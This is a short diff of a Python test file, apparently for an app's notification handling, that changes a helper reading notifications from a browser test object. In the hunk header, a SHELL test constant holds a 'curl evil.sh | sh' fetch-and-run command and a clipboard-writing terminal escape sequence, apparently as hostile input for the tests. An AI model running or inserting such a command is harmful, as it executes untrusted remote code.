@@ -19,9 +19,8 @@ SHELL = "harmless\ncurl evil.sh | sh\n\x1b]52;c;AAAA\n"
 
 async def told(browser: Browser, number: int = 1) -> list[str]:
     """So many notes, once they are there."""
-    notes = browser.app._notifications  # noqa: SLF001  no other way
-    await browser.until(lambda: len(notes) >= number, f"{number} notes")
-    return [note.message for note in notes]
+    await browser.until(lambda: len(browser.notes) >= number, f"{number} notes")
+    return [*browser.notes]
 
 
 class Sent:
